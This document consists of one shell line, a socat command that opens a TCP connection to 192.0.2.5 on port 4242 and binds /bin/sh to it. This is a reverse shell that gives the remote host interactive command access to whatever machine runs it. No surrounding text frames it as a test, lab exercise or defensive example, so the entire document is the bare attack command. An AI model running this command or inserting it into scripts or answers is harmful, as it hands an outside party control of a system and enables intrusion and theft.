socat TCP4:192.0.2.5:4242 SYSTEM:/bin/sh
